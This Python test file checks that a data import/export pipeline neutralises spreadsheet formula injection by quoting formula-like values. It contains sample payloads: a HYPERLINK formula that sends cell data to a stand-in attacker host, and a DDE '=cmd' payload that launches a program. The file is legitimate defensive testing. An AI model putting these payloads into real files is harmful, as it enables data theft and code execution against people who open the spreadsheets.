"""Files people open in a spreadsheet: formula-looking values from the planning
file come out quoted (reject files, and the free-text fields of exported files);
structured fields keep their documented form."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from sqlalchemy.orm import Session, sessionmaker

from flows import formats
from flows.importer import import_file
from flows.snapshot import write_beneficiaries
from tests.flows.files import ben_row, bens_file, world

NAME = '=HYPERLINK("http://attacker.example/?x="&A1)'


def test_formula_names_are_quoted_in_rejects_and_in_the_exported_file(
    session: Session, session_factory: sessionmaker[Session], data_dir: Path
) -> None:
    world(session)
    session.commit()
    rows = [
        ben_row("BEN001", nom=NAME, prenom="@SUM(1)", ville="-Paris"),
        ben_row("=cmd|' /C calc'!A0"),  # a bad id: rejected, its raw line kept
    ]
    report = import_file(session_factory, bens_file(data_dir / "in", rows), data_dir, full=False)
    assert (report.created, report.rejected) == (1, 1)
    assert report.reject_path is not None
    [_, reject] = report.reject_path.read_bytes().decode().split("\r\n")[:2]
    assert reject.split(";")[3].startswith("'=cmd")

    result = write_beneficiaries(session, data_dir / "out", date(2026, 11, 23))
    [header, line] = result.path.read_bytes().decode().split("\r\n")[:2]
    values = dict(zip(header.split(";"), line.split(";"), strict=True))
    assert values["nom"] == "'" + NAME
    assert values["prenom"] == "'@SUM(1)"
    assert values["ville"] == "'-Paris"
    # Structured fields are the format's, for the planning software.
    assert values["telephone_1"] == "+33145678901"
    assert values["id_planning"] == "BEN001"


def test_encode_row_guards_text_fields_of_a_format_and_every_cell_without_one() -> None:
    values = ["INT001", "M", "=A1", "@B2", "NORD", "", "4001", "2026-01-05", "", "pt"]
    encoded = formats.encode_row(values, formats.WORKERS).decode()
    assert encoded.split(";")[2:4] == ["'=A1", "'@B2"]
    assert formats.encode_row(["+33145678901", "=1"]) == b"'+33145678901;'=1\r\n"
